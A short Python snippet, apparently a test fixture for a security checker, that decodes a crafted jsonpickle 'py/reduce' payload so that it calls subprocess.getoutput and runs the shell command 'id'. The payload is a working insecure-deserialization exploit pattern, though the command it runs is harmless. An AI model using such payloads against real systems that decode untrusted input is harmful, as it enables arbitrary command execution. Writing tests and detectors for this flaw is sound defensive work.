# expect: stdlib; jsonpickle.decode of a py/reduce payload calls subprocess.getoutput
import jsonpickle

payload = '{"py/reduce": [{"py/function": "subprocess.getoutput"}, {"py/tuple": ["id"]}]}'
print(jsonpickle.decode(payload))
